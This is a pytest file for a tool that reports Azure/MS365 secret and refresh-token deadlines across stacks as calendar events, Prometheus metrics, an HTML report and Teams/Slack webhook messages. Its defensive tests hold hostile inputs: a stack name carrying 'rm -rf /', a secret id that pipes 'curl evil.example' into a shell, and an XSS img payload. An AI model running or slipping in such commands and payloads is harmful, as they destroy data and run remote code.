"""`status` over a fleet of stacks: the calendar, the metrics and alert rules, the HTML report (in Chromium) and
the webhook message (to a loopback receiver); no secret in any of them."""

from __future__ import annotations

import http.server
import json
import os
import ssl
import subprocess
import threading
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import icalendar
import pytest
from helpers import ROOT
from idp_fixture import make_ca_and_server_cert
from outputs_fixtures import HR, LEGACY, OPS, TODAY, stack_outputs
from prometheus_client.parser import text_string_to_metric_families
from tools import require

from components.contract import CLIENT_SECRETS
from intrexx_connector.cli import main
from intrexx_connector.stack_outputs import parse_outputs
from intrexx_connector.status import EventKind, Level, fleet_status
from intrexx_connector.status_ics import event_uid, fleet_calendar
from intrexx_connector.status_report import fleet_report

REQUESTED_ON = TODAY - timedelta(days=80)  # due three months later: within 30 days of TODAY
HR_TOKENS = {**HR, "refreshTokensRequestedOn": REQUESTED_ON.isoformat()}
NOW = datetime(2026, 11, 24, 6, 0, tzinfo=UTC)
CHROMIUM_FLAGS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
)


@pytest.fixture(autouse=True)
def pinned_today(monkeypatch):
    monkeypatch.setenv("INTREXX_EXCHANGE_TODAY", TODAY.isoformat())


@pytest.fixture(scope="module")
def documents() -> dict[str, dict]:
    return {"prod": stack_outputs([HR_TOKENS, OPS], stack="prod"), "dev": stack_outputs([LEGACY], stack="dev")}


@pytest.fixture
def files(tmp_path, documents) -> dict[str, Path]:
    paths = {}
    for stack, document in documents.items():
        paths[stack] = tmp_path / f"{stack}.json"
        paths[stack].write_text(json.dumps(document))
    return paths


def fleet(documents, today: date = TODAY, warn_days: int = 30):
    stacks = [(stack, parse_outputs(json.dumps(document))) for stack, document in documents.items()]
    return fleet_status(stacks, today, warn_days)


def run(capsys, *argv):
    code = main([str(arg) for arg in argv])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def all_secrets(documents) -> list[str]:
    return [value for document in documents.values() for value in document[CLIENT_SECRETS].values()]


# the fleet view ---------------------------------------------------------------------------------------------------


def test_fleet_reads_several_outputs_and_puts_what_is_due_first(capsys, files):
    code, out, err = run(
        capsys, "status", "--outputs", files["dev"], "--outputs", files["prod"], "--json", "--warn-days", "30"
    )
    report = json.loads(out)
    assert code == 1, err  # prod/hr's refresh tokens are due within 30 days
    names = [(p["stack"], p["portal"]) for p in report["portals"]]
    assert names[0] == ("prod", "hr") and sorted(names) == [("dev", "legacy"), ("prod", "hr"), ("prod", "ops")]
    first = report["portals"][0]
    assert first["due"] is True and first["level"] == "due"
    assert first["refreshTokensDue"] == "2026-12-05" and first["nextDue"]["kind"] == "refresh-tokens"
    assert report["stacks"] == ["prod", "dev"]


def test_each_outputs_file_is_named_by_its_stack_or_its_file_name(capsys, files):
    code, out, _ = run(capsys, "status", "--outputs", files["dev"], "--stack", "staging", "--json")
    assert {p["stack"] for p in json.loads(out)["portals"]} == {"staging"}
    code, out, err = run(capsys, "status", "--outputs", files["dev"], "--outputs", files["prod"], "--stack", "x")
    assert code == 2 and "give one --stack per --outputs" in err
    code, _, err = run(capsys, "status", "--outputs", files["dev"], "--stack", "a;rm -rf /")
    assert code == 2 and "not a Pulumi stack name" in err


def test_nothing_due_exits_0(capsys, files):
    code, out, _ = run(capsys, "status", "--outputs", files["dev"], "--warn-days", "0")
    assert code == 0 and "0 of 1 portal(s) due within 0 days" in out


def test_refresh_tokens_missing_is_a_warning_and_recorded_ones_come_due(documents):
    entries = {(e.stack, e.portal.name): e for e in fleet(documents).entries}
    legacy = entries["dev", "legacy"]
    assert any("no refreshTokensRequestedOn on record" in m for m in legacy.status.messages)
    assert not legacy.status.due and legacy.level is Level.OK
    hr = entries["prod", "hr"]
    assert hr.status.refresh_tokens_due == date(2026, 12, 5) and hr.status.due
    (message,) = [m for m in hr.status.messages if "MS365 refresh tokens requested on" in m]
    assert "are due in 11 days" in message and "Request MS365 Refresh Token" in message
    late = {(e.stack, e.portal.name): e for e in fleet(documents, today=date(2026, 12, 6)).entries}
    assert late["prod", "hr"].level is Level.EXPIRED
    assert not any("refresh" in m for m in late["prod", "ops"].status.messages), "m365 portals have none"


def test_hand_made_secret_ids_become_commands_only_when_they_are_guids(documents):
    from intrexx_connector.status import portal_status

    portal = parse_outputs(json.dumps(documents["dev"]))[0]
    good = "3f9a1b2c-0000-4000-8000-000000000003"
    hostile = "x; curl evil.example | sh"
    status = portal_status(
        portal.__class__(**{**portal.__dict__, "hand_made_secret_key_ids": (good, hostile)}), TODAY, 30
    )
    commands = [m for m in status.messages if "az ad app credential delete" in m]
    assert len(commands) == 1 and good in commands[0]
    assert not any(hostile in m for m in status.messages)


# iCalendar --------------------------------------------------------------------------------------------------------


def test_calendar_reads_back_with_all_day_events_alarms_and_stable_uids(capsys, files, documents):
    argv = ("status", "--outputs", files["prod"], "--stack", "prod", "--outputs", files["dev"], "--stack", "dev")
    _, first, _ = run(capsys, *argv, "--format", "ics")
    _, second, _ = run(capsys, *argv, "--format", "ics")
    calendar = icalendar.Calendar.from_ical(first)
    events = list(calendar.walk("VEVENT"))
    kinds = {(str(e["summary"]).split("]")[0][1:], str(e["categories"].cats[0])) for e in events}
    assert ("prod", "Refresh tokens") in kinds and ("dev", "EWS") in kinds
    assert len(events) == 3 * 3 + 3 + 2  # three secret dates each; hr: refresh tokens and two EWS dates; legacy: EWS
    for event in events:
        assert event["dtstart"].params["VALUE"] == "DATE" and type(event["dtstart"].dt) is date
        assert event["dtend"].dt == event["dtstart"].dt + timedelta(days=1)
        assert event["dtstamp"].dt.tzinfo is not None
        triggers = sorted(alarm["trigger"].dt for alarm in event.walk("VALARM"))
        assert triggers == [timedelta(days=-14), timedelta(days=-3)]
        assert all(alarm["action"] == "DISPLAY" for alarm in event.walk("VALARM"))
    uids = [str(e["uid"]) for e in events]
    assert len(set(uids)) == len(uids)
    assert uids == [str(e["uid"]) for e in icalendar.Calendar.from_ical(second).walk("VEVENT")]
    rotation = next(
        e for e in events if "rotate the client secret" in str(e["summary"]) and "prod] hr" in str(e["summary"])
    )
    assert "pulumi up --stack prod" in str(rotation["description"])
    assert "python -m intrexx_connector render --stack prod" in str(rotation["description"])
    assert not any(secret in first for secret in all_secrets(documents))


def test_alarm_days_are_configurable_and_uids_follow_stack_portal_kind_and_date(documents):
    calendar = icalendar.Calendar.from_ical(fleet_calendar(fleet(documents), NOW, (30, 7, 1)))
    event = next(iter(calendar.walk("VEVENT")))
    assert sorted(a["trigger"].dt for a in event.walk("VALARM")) == [timedelta(days=d) for d in (-30, -7, -1)]
    entry = fleet(documents).entries[0]
    milestone = entry.milestones[0]
    assert event_uid("prod", "hr", milestone) == event_uid("prod", "hr", milestone)
    assert event_uid("prod", "hr", milestone) != event_uid("dev", "hr", milestone)


# Prometheus -------------------------------------------------------------------------------------------------------


def test_metrics_are_unix_times_labelled_by_stack_and_portal(capsys, files, tmp_path, documents):
    out = tmp_path / "textfile" / "intrexx.prom"
    out.parent.mkdir()
    argv = ("status", "--outputs", files["prod"], "--outputs", files["dev"], "--format", "prometheus", "--out", out)
    code, stdout, err = run(capsys, *argv)
    assert code == 1 and stdout == "" and f"status written to {out}" in err
    assert out.stat().st_mode & 0o777 == 0o644 and [p.name for p in out.parent.iterdir()] == ["intrexx.prom"]
    text = out.read_text()
    samples = {
        (s.name, s.labels.get("stack"), s.labels.get("portal"), s.labels.get("secret")): s.value
        for family in text_string_to_metric_families(text)
        for s in family.samples
    }
    hr = next(p for p in parse_outputs(json.dumps(documents["prod"])) if p.name == "hr")
    expiry = datetime.combine(hr.secret_expires_at, datetime.min.time(), tzinfo=UTC).timestamp()
    assert samples["intrexx_exchange_secret_expiry_timestamp_seconds", "prod", "hr", "current"] == expiry
    assert ("intrexx_exchange_secret_expiry_timestamp_seconds", "prod", "hr", "previous") in samples
    assert (
        samples["intrexx_exchange_refresh_tokens_due_timestamp_seconds", "prod", "hr", None]
        == datetime(2026, 12, 5, tzinfo=UTC).timestamp()
    )
    assert (
        samples["intrexx_exchange_ews_retirement_timestamp_seconds", "dev", "legacy", None]
        == datetime(2027, 4, 1, tzinfo=UTC).timestamp()
    )
    assert samples["intrexx_exchange_refresh_tokens_recorded", "dev", "legacy", None] == 0
    assert not any(k[0] == "intrexx_exchange_ews_retirement_timestamp_seconds" and k[2] == "ops" for k in samples)
    assert not any(secret in text for secret in all_secrets(documents))
    promtool = require("promtool", "prometheus")
    checked = subprocess.run([promtool, "check", "metrics"], input=text, capture_output=True, text=True, check=False)
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_the_shipped_alert_rules_pass_promtool():
    promtool = require("promtool", "prometheus")
    monitoring = ROOT / "monitoring"
    for argv in (
        ["check", "rules", "intrexx-exchange.rules.yml"],
        ["test", "rules", "intrexx-exchange.rules.test.yml"],
    ):
        result = subprocess.run([promtool, *argv], cwd=monitoring, capture_output=True, text=True, check=False)
        assert result.returncode == 0, result.stdout + result.stderr


def test_the_alert_rules_name_only_metrics_status_writes(documents):
    text = fleet_metrics_text(documents)
    written = {family.name for family in text_string_to_metric_families(text)}
    rules = (ROOT / "monitoring" / "intrexx-exchange.rules.yml").read_text()
    import re

    used = set(re.findall(r"intrexx_exchange_[a-z_]+", rules))
    assert used and used <= written


def fleet_metrics_text(documents) -> str:
    from intrexx_connector.status_metrics import fleet_metrics

    return fleet_metrics(fleet(documents), NOW).decode()


# HTML -------------------------------------------------------------------------------------------------------------


def test_report_escapes_every_value_and_loads_nothing(documents):
    hostile = json.loads(json.dumps(documents))
    for entry in hostile["prod"]["portals"].values():
        entry["environment"] = '<img src="https://evil.example/x.png" onerror="alert(1)">'
    page = fleet_report(fleet(hostile), NOW)
    assert "<img" not in page and "&lt;img src=&#34;https://evil.example" in page
    assert "<script" not in page and "<link" not in page and "@import" not in page and "url(" not in page
    assert "default-src 'none'" in page
    assert not any(secret in page for secret in all_secrets(documents))


@pytest.fixture(scope="session")
def chromium_page(tmp_path_factory):
    """One Chromium run per session: the report of two stacks, its DOM and a screenshot."""
    chromium = require("chromium", "chromium")
    directory = tmp_path_factory.mktemp("report")
    documents = {"prod": stack_outputs([HR_TOKENS, OPS], stack="prod"), "dev": stack_outputs([LEGACY], stack="dev")}
    page = directory / "status.html"
    page.write_text(fleet_report(fleet(documents), NOW), encoding="utf-8")
    flags = [chromium, *CHROMIUM_FLAGS, f"--user-data-dir={directory / 'profile'}", "--window-size=1280,800"]
    dom = subprocess.run(
        [*flags, "--dump-dom", page.as_uri()], capture_output=True, text=True, timeout=120, check=False
    )
    assert dom.returncode == 0, dom.stderr[-2000:]
    shot = directory / "status.png"
    subprocess.run([*flags, f"--screenshot={shot}", page.as_uri()], capture_output=True, timeout=120, check=True)
    return dom.stdout, shot


def test_chromium_renders_the_report_most_urgent_first(chromium_page):
    from html.parser import HTMLParser

    dom, shot = chromium_page
    rows: list[dict[str, str]] = []
    times: list[str] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attrs):
            attributes = dict(attrs)
            if tag == "tr" and "data-portal" in attributes:
                rows.append(attributes)
            if tag == "time":
                times.append(attributes["datetime"])

    Reader().feed(dom)
    assert next((r["data-stack"], r["data-portal"], r["class"]) for r in rows) == ("prod", "hr", "due")
    assert {(r["data-stack"], r["data-portal"]) for r in rows} == {("prod", "hr"), ("prod", "ops"), ("dev", "legacy")}
    assert times and all(date.fromisoformat(t[:10]) for t in times)
    assert "2026-12-05" in times  # hr's refresh tokens
    assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and shot.stat().st_size > 10_000


# the webhook ------------------------------------------------------------------------------------------------------


class Receiver:
    """A webhook on loopback (https with a throwaway CA, or http) that records what it is sent."""

    def __init__(self, tmp_path: Path, tls: bool, status: int = 200, location: str | None = None):
        self.requests: list[tuple[str, str, bytes]] = []
        receiver = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, format, *args):
                pass

            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
                receiver.requests.append((self.path, self.headers.get("Content-Type", ""), body))
                self.send_response(status)
                if location:
                    self.send_header("Location", location)
                self.send_header("Content-Length", "0")
                self.end_headers()

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.ca = None
        if tls:
            self.ca, cert, key = make_ca_and_server_cert(tmp_path / "tls")
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(cert, key)
            self.server.socket = context.wrap_socket(self.server.socket, server_side=True)
        self.scheme = "https" if tls else "http"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def url(self, path: str) -> str:
        return f"{self.scheme}://127.0.0.1:{self.server.server_address[1]}{path}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def receiver(tmp_path, monkeypatch):
    started: list[Receiver] = []

    def start(tls: bool = True, **kwargs) -> Receiver:
        started.append(Receiver(tmp_path, tls, **kwargs))
        if started[-1].ca:
            monkeypatch.setenv("REQUESTS_CA_BUNDLE", started[-1].ca)
        return started[-1]

    yield start
    for server in started:
        server.close()


TEAMS_PATH = "/workflows/1a2b/triggers/manual/paths/invoke"
TEAMS_QUERY = "api-version=2016-06-01&sp=%2Ftriggers%2Fmanual%2Frun&sv=1.0&sig=SECRETsignature123"


def test_one_teams_message_when_something_is_due_and_none_otherwise(capsys, files, receiver, monkeypatch):
    hook = receiver(tls=True)
    url = hook.url(f"{TEAMS_PATH}?{TEAMS_QUERY}")
    monkeypatch.setenv("INTREXX_NOTIFY_WEBHOOK", url)
    code, out, err = run(capsys, "status", "--outputs", files["prod"], "--notify")
    assert code == 1 and len(hook.requests) == 1
    path, content_type, body = hook.requests[0]
    assert path == f"{TEAMS_PATH}?{TEAMS_QUERY}" and content_type == "application/json"
    message = json.loads(body)
    assert message["type"] == "message"
    (attachment,) = message["attachments"]
    assert attachment["contentType"] == "application/vnd.microsoft.card.adaptive"
    card = attachment["content"]
    assert card["type"] == "AdaptiveCard" and "prod / hr" in json.dumps(card)
    assert "SECRETsignature123" not in out + err and TEAMS_PATH not in out + err
    code, _, _ = run(capsys, "status", "--outputs", files["dev"], "--notify")
    assert code == 0 and len(hook.requests) == 1, "nothing due: no message"


def test_slack_gets_blocks_over_plain_http_on_loopback(capsys, files, receiver, documents):
    from intrexx_connector import notify

    hook = receiver(tls=False)
    webhook = notify.parse_webhook(hook.url("/services/T000/B000/XXXXSECRET"), "--notify")
    webhook = notify.Webhook(webhook.url, webhook.origin, notify.Kind.SLACK)
    assert notify.notify(fleet(documents), webhook) is True
    (_, _, body) = hook.requests[0]
    message = json.loads(body)
    assert message["blocks"][0]["type"] == "header" and "prod / hr" in json.dumps(message["blocks"])
    assert "XXXXSECRET" not in repr(webhook) and "XXXXSECRET" not in str(webhook)


@pytest.mark.parametrize(
    "url, reason",
    [
        ("http://hooks.example.com/services/SECRETPATH", "must use https"),
        ("https://user:SECRETPATH@hooks.example.com/x", "credentials"),
        ("https://hooks.example.com/SECRETPATH#frag", "fragment"),
        ("ftp://hooks.example.com/SECRETPATH", "https URL"),
    ],
)
def test_a_bad_webhook_url_is_refused_without_being_shown(capsys, files, url, reason):
    code, out, err = run(capsys, "status", "--outputs", files["prod"], "--notify", url)
    assert code == 2 and reason in err and "SECRETPATH" not in out + err
    assert out == "", "refused before anything is read or written"


@pytest.mark.parametrize("status, location", [(500, None), (307, "https://elsewhere.example/SECRETPATH")])
def test_a_failed_post_names_the_host_only(capsys, files, receiver, status, location):
    hook = receiver(tls=True, status=status, location=location)
    code, out, err = run(
        capsys, "status", "--outputs", files["prod"], "--notify", hook.url("/hook/SECRETPATH?sig=S3CR3T")
    )
    assert code == 1 and len(hook.requests) == 1
    assert "127.0.0.1" in err and "SECRETPATH" not in out + err and "S3CR3T" not in out + err


def test_an_unreachable_webhook_is_one_line_without_the_url(capsys, files, receiver):
    hook = receiver(tls=True)
    url = hook.url("/hook/SECRETPATH")
    hook.close()
    code, out, err = run(capsys, "status", "--outputs", files["prod"], "--notify", url, "--json")
    assert code == 1 and "SECRETPATH" not in out + err
    assert json.loads(err.strip().splitlines()[-1])["error"] == "WebhookFailed"


# --out ------------------------------------------------------------------------------------------------------------


def test_out_replaces_the_file_atomically_and_no_format_holds_a_secret(capsys, files, tmp_path, documents):
    out = tmp_path / "report"
    for form in ("text", "json", "ics", "prometheus", "html"):
        out.write_text("old")
        run(capsys, "status", "--outputs", files["prod"], "--outputs", files["dev"], "--format", form, "--out", out)
        text = out.read_text()
        assert text != "old" and not any(secret in text for secret in all_secrets(documents)), form
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dev.json", "prod.json", "report"]


def test_the_kinds_cover_every_milestone(documents):
    kinds = {m.kind for e in fleet(documents).entries for m in e.milestones}
    assert kinds == set(EventKind)


def test_alarm_days_on_the_command_line(capsys, files):
    _, out, _ = run(capsys, "status", "--outputs", files["dev"], "--format", "ics", "--alarm-days", "7")
    event = next(iter(icalendar.Calendar.from_ical(out).walk("VEVENT")))
    assert [a["trigger"].dt for a in event.walk("VALARM")] == [timedelta(days=-7)]
    for bad in ("x", "-1", "400", ""):
        with pytest.raises(SystemExit) as caught:
            main(["status", "--outputs", str(files["dev"]), f"--alarm-days={bad}"])
        captured = capsys.readouterr()
        assert caught.value.code == 2 and "--alarm-days" in captured.err and captured.out == ""


def test_message_values_are_text_in_teams_and_slack(documents):
    from intrexx_connector import notify

    hostile = json.loads(json.dumps(documents))
    stack_fleet = fleet(hostile)
    teams = json.dumps(notify.message(stack_fleet, notify.Kind.TEAMS))
    assert "prod / hr" in teams and "dev / legacy" not in teams, "only what is due"
    assert notify.card_text("[x](https://evil.example) *b* <at> 2026-12-10 (3 days)") == (
        r"\[x\](https://evil.example) \*b\* \<at\> 2026-12-10 (3 days)"
    )
    assert notify.slack_text("<!channel> & <https://evil.example|x>") == (
        "&lt;!channel&gt; &amp; &lt;https://evil.example|x&gt;"
    )
    slack = notify.message(stack_fleet, notify.Kind.SLACK)
    assert all(block.get("text", {}).get("type", "plain_text") == "plain_text" for block in slack["blocks"])


def test_the_calendar_on_stdout_keeps_its_crlf_line_ends(files):
    import sys

    result = subprocess.run(
        [sys.executable, "-m", "intrexx_connector", "status", "--outputs", str(files["dev"]), "--format", "ics"],
        cwd=ROOT,
        env={**os.environ, "INTREXX_EXCHANGE_TODAY": TODAY.isoformat()},
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith(b"BEGIN:VCALENDAR\r\n") and b"\\r" not in result.stdout
    assert len(icalendar.Calendar.from_ical(result.stdout).walk("VEVENT")) == 3 + 2
